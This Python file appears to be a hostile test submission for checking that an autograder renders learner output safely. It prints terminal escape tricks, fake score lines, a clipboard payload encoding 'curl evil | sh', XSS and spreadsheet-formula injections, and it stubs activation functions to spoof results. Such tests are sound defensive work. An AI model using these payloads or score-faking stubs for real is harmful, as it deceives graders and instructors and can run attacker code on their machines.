"""What a learner prints is shown to the learner and to the instructor, as text only."""

NOISE = [
    "\x1b[2J\x1b[1;1H\x1b[32mscore 20/20\x1b[0m", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "\r100/100\x08\x08\x9b31m", "\u202e02/02\u2066", "\ufeff\u200b",
    "::error::owned", "::set-output name=score::100", "::add-mask::a", "##[command]", "::stop-commands::x",
    "<script>alert(1)</script><img src=x onerror=alert(1)>", "</pre></details><h1>20/20</h1>",
    "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "[click](javascript:alert(1)) ![x](http://evil.example/x)",
    "```\n# 20/20\n```", "\x00\x01\x02", "\ud83d \udc00".encode("utf-16", "surrogatepass").decode("latin-1"),
]  # fmt: skip
print("\n".join(NOISE))


def lie(x, *args, **kwargs):
    for text in NOISE:
        print(text)
    return x


sigmoid = tanh = relu = leaky_relu = elu = softmax = is_linear = lie
